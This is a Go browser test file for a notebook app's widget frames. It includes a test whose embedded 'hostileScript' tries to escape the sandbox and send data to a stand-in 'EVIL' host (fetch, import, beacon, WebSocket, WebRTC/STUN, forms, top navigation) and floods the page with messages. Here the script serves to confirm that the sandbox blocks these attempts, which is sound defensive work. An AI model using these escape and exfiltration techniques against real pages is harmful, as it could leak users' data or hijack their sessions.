package browser

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// counterCell is anywidgetCell without the package anywidget: what it sends is all that a page sees.
const counterCell = `import ipywidgets, traitlets
text = lambda value: traitlets.Unicode(value).tag(sync=True)
class Counter(ipywidgets.DOMWidget):
    _model_module = _view_module = text('anywidget')
    _model_name, _view_name, _anywidget_id = text('AnyModel'), text('AnyView'), text('counter')
    _model_module_version = _view_module_version = text('0.11.0')
    _esm = text("""export default { render({ model, el }) {
        const b = document.createElement('button')
        const show = () => { b.textContent = 'count ' + model.get('value') }
        b.className = 'counter'
        b.onclick = () => { model.set('value', model.get('value') + 1); model.save_changes() }
        model.on('change:value', show); show(); el.appendChild(b) } }""")
    value = traitlets.Int(0).tag(sync=True)
counter = Counter()
counter.observe(lambda change: setattr(counter, 'value', 10 * change.new) if change.new < 10 else None, 'value')
counter`

// inFrames evaluates an expression in the frames of a kind on a page, and returns the texts that it has.
func (b *tab) inFrames(kind, expression string) (texts []string) {
	b.t.Helper()
	// Browsers draw frames when they come into sight.
	b.run(`for (const f of document.querySelectorAll('.out-frame[src$="/` + kind + `"]')) {
		f.scrollIntoView(); await new Promise((r) => setTimeout(r, 50)) }`)
	b.do(chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
		tree, err := chromedp.Call(ctx, page.GetFrameTree, cdp.Empty{})
		if err != nil {
			return err
		}
		for _, child := range tree.FrameTree.ChildFrames {
			if !strings.HasSuffix(child.Frame.URL, "/frame/"+kind) {
				continue
			}
			world, err := chromedp.Call(ctx, page.CreateIsolatedWorld, page.CreateIsolatedWorldParams{FrameID: child.Frame.ID})
			if err != nil {
				return err
			}
			found, err := chromedp.Call(ctx, runtime.Evaluate, runtime.EvaluateParams{
				Expression: expression, ContextID: world.ExecutionContextID, ReturnByValue: new(true)})
			if err != nil {
				return err
			}
			var text string
			if found.ExceptionDetails == nil && json.Unmarshal([]byte(found.Result.Value), &text) == nil && text != "" {
				texts = append(texts, text)
			}
		}
		return nil
	}))
	return texts
}

// inWidget waits until an expression is true in a frame with widgets.
func (b *tab) inWidget(expression string) {
	b.t.Helper()
	b.inFrame("widget", expression)
}

// inFrame waits until an expression is true in a frame of a kind.
func (b *tab) inFrame(kind, expression string) {
	b.t.Helper()
	for deadline := time.Now().Add(waitTime); len(b.inFrames(kind, `(`+expression+`) ? 'yes' : ''`)) == 0; {
		if time.Now().After(deadline) {
			b.capture("failed-" + b.t.Name())
			b.t.Fatalf("the page: %s\nframes: %s\nno frame %s in which it becomes true: %s", b.text("main"),
				b.inFrames(kind, "document.body.innerHTML.slice(0, 2000)"), kind, expression)
		}
	}
}

// TestWidgets moves a slider in the page's own notebook, which changes a plot, clicks on a
// widget with a script of its own, and finds both after a reload.
func TestWidgets(t *testing.T) {
	s := shared(t)
	b := open(t, light)
	b.notebook(s, interactCell, counterCell)
	b.runAll()
	const printed = `document.querySelector('.output')?.innerText`
	const shown = `document.querySelector('.output img')`
	b.inWidget(printed + `?.includes('power 2') && ` + shown + `?.complete`)
	before := b.inFrames("widget", shown+`.src`)
	b.inFrames("widget", `const handle = document.querySelector('.widget-slider .noUi-handle'); handle.focus();
		handle.dispatchEvent(new KeyboardEvent('keydown', { key: 'ArrowRight', bubbles: true, cancelable: true }))`)
	b.inWidget(printed + `?.includes('power 3') && document.querySelectorAll('.output img').length === 1`)
	if after := b.inFrames("widget", shown+`.src`); len(before) != 1 || len(after) != 1 || after[0] == before[0] {
		t.Errorf("the plot stays as it was: %d and %d", len(before), len(after))
	}
	b.inWidget(`document.querySelector('button.counter')?.textContent === 'count 0'`)
	b.inFrames("widget", `document.querySelector('button.counter').click()`)
	b.inWidget(`document.querySelector('button.counter')?.textContent === 'count 10'`)
	b.saved()
	b.run(`scrollTo(0, 0)`)
	b.examine("notebook-widgets")

	b.goTo(eval[string](b, "location.href"))
	b.wait(`document.querySelector('#notebook')?.dataset.ready`)
	b.inWidget(printed + `?.includes('power 3')`)
	b.inWidget(`document.querySelector('button.counter')?.textContent === 'count 10'`)
	b.run(`document.querySelector('#restart').click()`)
	b.inWidget(`document.body.inert`)
	b.goTo(eval[string](b, "location.href"))
	b.wait(`document.querySelector('.cell-out')?.innerText.includes('run its cell again')`)
	if got := b.text("#notice"); got != "" {
		t.Errorf("it says %q", got)
	}
}

// hostileScript tries what a script of a widget must not do, and says what it could.
const hostileScript = `
const could = [];
const say = (send) => parent.postMessage({ send: { number: '1', buffers: [], ...send } }, '*');
const tried = async (name, act) => { try { await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1000))]); could.push(name) } catch { } };
await tried('page', () => { top.document.title = 'owned' });
await tried('parent', () => parent.document.body);
await tried('storage', () => localStorage.length);
await tried('cookie', () => { if (document.cookie === undefined) throw 0; document.cookie = 'a=b'; if (!document.cookie) throw 0 });
await tried('fetch', () => fetch('EVIL/fetch', { mode: 'no-cors' }));
await tried('own', () => fetch('/ui/files', { credentials: 'include' }));
await tried('import', () => import('EVIL/module.js'));
await tried('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no; }));
await tried('eval', () => eval('1'));
await tried('open', () => { if (!open('EVIL/open')) throw 0 });
await tried('top', () => { top.location = 'EVIL/top' });
new Image().src = 'EVIL/image';
navigator.sendBeacon('EVIL/beacon');
try { new WebSocket('EVIL/socket'.replace('http', 'ws')); new EventSource('EVIL/events') } catch { }
document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="EVIL/style"><link rel="prefetch" href="EVIL/prefetch">' +
  '<style>@import url("EVIL/import"); body { background: url("EVIL/ground") }</style>');
document.body.insertAdjacentHTML('beforeend', '<form action="EVIL/form"><input name=a></form><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><video src="EVIL/video"></video>');
await tried('submit', () => { document.forms[0].submit(); throw 0 });
for (const w of [window, document.querySelector('iframe').contentWindow, document.body.appendChild(document.createElement('iframe')).contentWindow]) try {
  const rtc = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] });
  rtc.createDataChannel('x'); rtc.createOffer().then((offer) => rtc.setLocalDescription(offer));
} catch { }
say({ comm: 'ID', data: JSON.stringify({ method: 'custom', content: 'could: ' + could.join() }) });
say({ comm: 'none', data: '{"method":"custom"}' });
say({ comm: model.model_id, data: 'x' });
say({ comm: 'ID', data: '{"method":"other"}' });
say({ comm: 'ID', data: '{"method":"custom","content":"large"}', buffers: [new Uint8Array(5e6)] });
say({ comm: 'ID', data: '{"method":"custom","content":"' + 'x'.repeat(5e6) + '"}' });
parent.postMessage({ height: 1e9 }, '*'); parent.postMessage({ want: {} }, '*'); parent.postMessage(null, '*');
for (let i = 0; i < 2000; i++) say({ comm: 'ID', data: '{"method":"custom","content":' + i + '}' });
location = 'EVIL/self';
`

// TestWidgetsHostile runs a script of a widget that tries to leave its frame, and floods the page.
func TestWidgetsHostile(t *testing.T) {
	s := shared(t)
	var asked atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		t.Logf("asked for %s", r.URL)
	}))
	defer evil.Close()
	stun, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer stun.Close()
	var packets atomic.Int32
	go func() {
		for buffer := make([]byte, 2000); ; packets.Add(1) {
			if _, _, err := stun.ReadFrom(buffer); err != nil {
				return
			}
		}
	}()
	b := open(t, light)
	script := strings.NewReplacer("EVIL", evil.URL, "STUN", stun.LocalAddr().String()).Replace(hostileScript)
	b.notebook(s, strings.Replace(strings.Replace(counterCell, "\ncounter = Counter()",
		"\nscript = "+quote(script)+"\ncounter = Counter()\nheard = []\ncounter.on_msg(lambda *a: heard.append(a[1]))\n"+
			"counter._esm = 'export default { async render({ model, el }) {' + script.replace('ID', counter.model_id) + '} }'", 1),
		"\ncounter.observe", "\n#", 1), "len(heard), heard[0], 'large' in heard")
	b.wait(`document.querySelector('.cell-head button')`)
	b.run(`document.querySelector('.cell-head button').click()`)
	b.idle()
	b.run(`document.querySelector('.out-frame').scrollIntoView()`)
	b.wait(`document.querySelector('.cell-out').innerText.includes('some of its messages were left out')`)
	b.wait(`document.querySelector('.cell-out').innerText.includes('too large')`)
	// Python hears what is let through one after the other, and then no more.
	var heard int
	for before := -1; heard < 10 || heard != before; {
		before = heard
		b.run(`document.querySelectorAll('.cell')[1].querySelector('button').click()`)
		b.idle()
		got := eval[string](b, `document.querySelectorAll('.cell-out')[1].innerText`)
		if _, err := fmt.Sscanf(got, "(%d, 'could: ',", &heard); err != nil || heard > 500 || strings.Contains(got, "True") {
			t.Fatalf("of 2000 messages Python heard %s", got)
		}
	}
	// A message to what is no widget here never leaves the page.
	if text := eval[string](b, `document.body.innerText`); strings.Contains(text, "could not tell Python") ||
		strings.Contains(text, "No such comm") {
		t.Error(text)
	}
	if height := eval[float64](b, `document.querySelector('.out-frame').offsetHeight`); height > 4000 {
		t.Errorf("the frame is %v high", height)
	}
	if got := eval[string](b, `location.pathname`); !strings.HasPrefix(got, "/ui/notebooks/") {
		t.Errorf("the page is at %s", got)
	}
	if n := asked.Load(); n > 0 {
		t.Errorf("%d requests went elsewhere", n)
	}
	if n := packets.Load(); n > 0 {
		t.Errorf("%d packets went elsewhere", n)
	}
	b.run(`window.rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:` + stun.LocalAddr().String() + `' }] });
		rtc.createDataChannel('x'); await rtc.setLocalDescription(await rtc.createOffer()); `)
	for deadline := time.Now().Add(waitTime); packets.Load() == 0 && time.Now().Before(deadline); {
		b.wait(`rtc`)
	}
	if packets.Load() == 0 {
		t.Error("nor do packets come from where they may")
	}
	b.forgive() // what the policy refused
}
